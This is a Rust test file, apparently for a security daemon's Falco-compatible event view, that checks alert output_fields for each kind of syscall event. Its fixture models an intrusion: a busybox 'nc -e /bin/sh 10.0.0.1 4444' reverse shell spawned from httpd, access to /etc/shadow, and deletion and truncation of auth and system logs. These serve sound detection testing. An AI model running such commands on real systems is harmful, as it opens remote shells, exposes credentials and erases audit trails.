//! Tests of the one Falco view: alert `output_fields` and printed events say what rules read,
//! for every kind of event the probes emit.

use std::collections::BTreeSet;

use habit_models::rules::{ArgKind, EventFields, Field, FieldRef};
use serde_json::Value;

use crate::falco::fields::{SUPPLIED_FIELDS, supplied};
use crate::falco::fixture::{Fixture, KINDS, PID, kind};
use crate::falco::output::HABITD_KEYS;

/// A JSON value as text: what Falco's `%field` prints for it.
fn text(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

#[test]
fn the_fixture_has_every_kind_of_event() {
    let fx = Fixture::new();
    let seen: BTreeSet<&str> = fx.events.iter().map(|e| kind(&e.body)).collect();
    let all: BTreeSet<&str> = KINDS.iter().copied().collect();
    assert_eq!(seen, all);
}

#[test]
fn supplied_fields_parse_and_keep_their_spelling() {
    assert_eq!(
        supplied().len(),
        SUPPLIED_FIELDS.len(),
        "a name does not parse"
    );
    let mut seen = BTreeSet::new();
    for (name, field) in supplied() {
        assert_eq!(field.to_string(), *name, "{name} is not Falco's spelling");
        assert!(seen.insert(*name), "{name} is listed twice");
    }
    for key in HABITD_KEYS {
        assert!(
            FieldRef::parse(key).is_err(),
            "{key} is a Falco field: habitd must not write it beside the view"
        );
    }
}

/// For every event kind: each supplied field is in `output_fields` exactly when the rules
/// engine can read it, and its JSON prints as the rules engine reads it.
#[test]
fn output_fields_say_what_rules_read_for_every_kind_of_event() {
    let fx = Fixture::new();
    fx.each(|ev, view| {
        let k = kind(&ev.body);
        let fields = view.output_fields();
        for (name, field) in supplied() {
            let read = view.get(field.field, field.arg.as_ref());
            match (read, fields.get(*name)) {
                (None, None) => {}
                (Some(read), Some(json)) => {
                    assert_eq!(text(json), read.to_string(), "{k}: {name}");
                    assert_eq!(*json, view.field_json(field), "{k}: {name}");
                }
                (read, json) => panic!("{k}: {name}: rules read {read:?}, output has {json:?}"),
            }
        }
        // Nothing else but habitd's own keys.
        for key in fields.keys() {
            assert!(
                SUPPLIED_FIELDS.contains(&key.as_str()) || HABITD_KEYS.contains(&key.as_str()),
                "{k}: {key} is in output_fields but not in the view"
            );
        }
        // The printed event carries the same map.
        let line: Value = serde_json::from_str(&view.to_json_line()).unwrap_or_default();
        assert_eq!(line["output_fields"], Value::Object(fields.clone()), "{k}");

        // DESIGN's promised keys, where they apply (a containerised process of a pod).
        for key in [
            "evt.type",
            "proc.name",
            "proc.exe",
            "proc.cmdline",
            "proc.pname",
            "proc.pid",
            "user.uid",
            "container.id",
            "container.name",
            "container.image.repository",
            "container.image.tag",
            "k8s.ns.name",
            "k8s.pod.name",
            "k8s.pod.uid",
            "k8s.pod.labels",
        ] {
            assert!(fields.contains_key(key), "{k}: no {key}");
        }
        let file = matches!(
            k,
            "open"
                | "chmod"
                | "rename"
                | "unlink"
                | "rmdir"
                | "link"
                | "symlink"
                | "truncate"
                | "chown"
                | "utimes"
        );
        let conn = matches!(k, "connect" | "accept" | "bind" | "listen" | "dup");
        assert_eq!(fields.contains_key("fd.name"), file || conn, "{k}: fd.name");
        for key in ["fd.sip", "fd.sport"] {
            assert_eq!(fields.contains_key(key), conn, "{k}: {key}");
        }
    });
}

/// A printed event is written without building its JSON map, and is byte for byte what the
/// map prints (keys in the map's order), for every kind of event.
#[test]
fn printed_events_are_the_json_of_their_map_byte_for_byte() {
    let fx = Fixture::new();
    let mut kinds = BTreeSet::new();
    fx.each(|ev, view| {
        let mut map = serde_json::Map::new();
        map.insert(
            "time".into(),
            Value::String(crate::alerts::alert::rfc3339(view.attributed.time)),
        );
        map.insert("source".into(), "syscall".into());
        map.insert("kind".into(), ev.body.kind_label().into());
        map.insert("output_fields".into(), Value::Object(view.output_fields()));
        let mut line = b"leading bytes are kept ".to_vec();
        view.write_json_line(&mut line);
        assert_eq!(
            String::from_utf8(line).unwrap_or_default(),
            format!("leading bytes are kept {}", Value::Object(map)),
            "{}",
            kind(&ev.body)
        );
        kinds.insert(kind(&ev.body));
    });
    assert_eq!(kinds.len(), KINDS.len());
}

/// The disputed fields, as Falco defines them.
#[test]
fn disputed_fields_have_falcos_meaning() {
    let fx = Fixture::new();
    let mut checked = BTreeSet::new();
    fx.each(|ev, view| {
        let f = view.output_fields();
        let k = kind(&ev.body);
        // A busybox applet run through /proc/self/exe: comm `exe`, named by its applet.
        assert_eq!(f["proc.name"], "nc", "{k}");
        assert_eq!(f["proc.exe"], "nc", "{k}: argv[0]");
        assert_eq!(f["proc.exepath"], "/bin/busybox", "{k}");
        assert_eq!(f["proc.cmdline"], "nc -e /bin/sh 10.0.0.1 4444", "{k}");
        assert_eq!(f["proc.pid"], PID, "{k}");
        assert_eq!(f["proc.pname"], "sh", "{k}");
        assert_eq!(f["proc.aname"], "(sh,httpd)", "{k}");
        let fd_name = f.get("fd.name").map(text);
        match (k, fd_name.as_deref()) {
            ("connect", Some(name)) => {
                assert!(
                    name == "->10.0.0.1:4444" || name == "->2001:db8::1:53",
                    "{name}"
                );
            }
            ("accept", Some(name)) => assert_eq!(name, "172.17.0.1:51234->172.17.0.2:80"),
            // A socket duplicated onto stdio: taken as the process's own connection.
            ("dup", Some(name)) => assert_eq!(name, "172.17.0.2:40312->10.0.0.1:4444"),
            ("bind", Some(name)) => assert_eq!(name, "0.0.0.0:8080"),
            ("listen", Some(name)) => assert_eq!(name, ":::8080"),
            ("open", Some(name)) => assert_eq!(name, "/etc/shadow"),
            ("chmod", Some(name)) => assert_eq!(name, "/tmp/x"),
            // A file change names the file changed: a rename's or link's new name, a
            // symlink's new link, else the file (resolved against its base directory).
            ("rename", Some(name)) => {
                assert_eq!(name, "/etc/passwd");
                assert_eq!(f["evt.arg.oldpath"], "/etc/.passwd.new");
                assert_eq!(f["evt.arg.newpath"], "/etc/passwd");
                assert_eq!(f["evt.type"], "renameat2");
            }
            ("unlink", Some(name)) => {
                assert_eq!(name, "/var/log/auth.log");
                assert_eq!(
                    f["evt.arg.name"], "/var/log/auth.log",
                    "unlinkat's argument"
                );
                assert_eq!(f["evt.type"], "unlinkat");
            }
            ("rmdir", Some(name)) => {
                assert_eq!(name, "/var/log/app");
                assert_eq!(f["evt.arg.path"], "/var/log/app");
                assert_eq!(f["fd.type"], "directory");
            }
            ("link", Some(name)) => {
                assert_eq!(name, "/tmp/sh");
                assert_eq!(f["evt.arg.oldpath"], "/etc/shadow");
            }
            ("symlink", Some(name)) => {
                assert_eq!(name, "/tmp/s");
                assert_eq!(f["evt.arg.target"], "/etc/shadow");
                assert_eq!(f["evt.arg.linkpath"], "/tmp/s");
                assert_eq!(f["evt.type"], "symlinkat");
            }
            ("truncate", Some(name)) => {
                assert_eq!(name, "/var/log/syslog", "ftruncate names the fd's file");
                assert_eq!(f["evt.arg.fd"], 3);
            }
            ("chown", Some(name)) => {
                assert_eq!(name, "/etc/shadow");
                assert_eq!(f["evt.arg.uid"], 1000);
                assert!(f.get("evt.arg.gid").is_none(), "gid -1: unchanged");
            }
            ("utimes", Some(name)) => assert_eq!(name, "/usr/bin/sshd"),
            (_, None) => {}
            (k, Some(name)) => panic!("{k} has fd.name {name}"),
        }
        checked.insert(k);
    });
    assert_eq!(checked.len(), KINDS.len());
}

/// Every field the rules engine answers for some event is in the supplied list (so that
/// output_fields misses none, and a rule checker knows them all). Fields with a name argument
/// (`evt.arg.NAME`, `container.label[KEY]`) cannot be enumerated: the arguments the view
/// answers are listed in SUPPLIED_FIELDS by hand.
#[test]
fn every_field_rules_can_read_is_supplied() {
    let fx = Fixture::new();
    let mut answered = BTreeSet::new();
    fx.each(|_, view| {
        for field in Field::ALL {
            if matches!(field.arg_kind(), ArgKind::None | ArgKind::OptionalIndex)
                && view.get(*field, None).is_some()
            {
                answered.insert(field.name());
            }
        }
    });
    for name in &answered {
        assert!(
            SUPPLIED_FIELDS.contains(name),
            "the view answers {name}, which SUPPLIED_FIELDS does not list"
        );
    }
    for (name, field) in supplied() {
        if field.arg.is_none() {
            assert!(
                answered.contains(name),
                "{name} is listed but never answered"
            );
        }
    }
}

/// Opens, connect and bind carry their result (read at syscall exit): `evt.res` is `SUCCESS`
/// or the errno's name, `evt.rawres` the number, `evt.failed` whether it failed, and an
/// open's `fd.num` its new descriptor or -1; events without a result have none of them, and
/// Falco's open macros (`fd.num>=0`, `fd.num=-1 and evt.res startswith E`) hold as in Falco.
#[test]
fn results_are_falco_fields_where_the_probes_report_them() {
    use habit_models::rules::Value as V;
    use habit_probes::EventBody;
    let fx = Fixture::new();
    let mut seen = Vec::new();
    fx.each(|ev, view| {
        let f = view.output_fields();
        let field = |name: &str| f.get(name).cloned();
        match (&ev.body, ev.body.result()) {
            (EventBody::Open { .. }, Some(r)) if r >= 0 => {
                assert_eq!(field("fd.num"), Some(Value::from(r)));
                assert_eq!(field("evt.res"), Some(Value::from("SUCCESS")));
                assert_eq!(field("evt.rawres"), Some(Value::from(r)));
                assert_eq!(field("evt.failed"), Some(Value::from(false)));
                assert_eq!(
                    field("evt.arg.flags"),
                    Some(Value::from("O_TRUNC|O_CREAT|O_WRONLY"))
                );
                let raw = view.get(
                    Field::EvtRawarg,
                    Some(&habit_models::rules::FieldArg::Key("flags".into())),
                );
                assert!(matches!(raw, Some(V::Num(0o1101))), "{raw:?}");
                seen.push("open ok");
            }
            (EventBody::Open { .. }, Some(_)) => {
                assert_eq!(field("fd.num"), Some(Value::from(-1)));
                assert_eq!(field("evt.res"), Some(Value::from("EACCES")));
                assert_eq!(field("evt.rawres"), Some(Value::from(-13)));
                assert_eq!(field("evt.failed"), Some(Value::from(true)));
                seen.push("open failed");
            }
            (EventBody::Dup { .. }, Some(0)) => {
                assert_eq!(field("evt.type"), Some(Value::from("dup2")));
                assert_eq!(field("evt.rawres"), Some(Value::from(0)));
                assert_eq!(field("fd.type"), Some(Value::from("ipv4")));
                assert_eq!(
                    field("fd.name"),
                    Some(Value::from("172.17.0.2:40312->10.0.0.1:4444"))
                );
                assert_eq!(field("fd.sip"), Some(Value::from("10.0.0.1")));
                seen.push("dup of a socket onto stdin");
            }
            (EventBody::Connect { .. }, Some(-115)) => {
                assert_eq!(field("evt.res"), Some(Value::from("EINPROGRESS")));
                assert_eq!(field("evt.rawres"), Some(Value::from(-115)));
                assert_eq!(field("fd.num"), None);
                seen.push("connect in progress");
            }
            (_, None) => {
                for name in ["evt.res", "evt.rawres", "evt.failed", "fd.num"] {
                    assert_eq!(field(name), None, "{name} of {}", kind(&ev.body));
                }
            }
            _ => {}
        }
    });
    assert_eq!(
        seen,
        [
            "open ok",
            "open failed",
            "connect in progress",
            "dup of a socket onto stdin"
        ]
    );
}
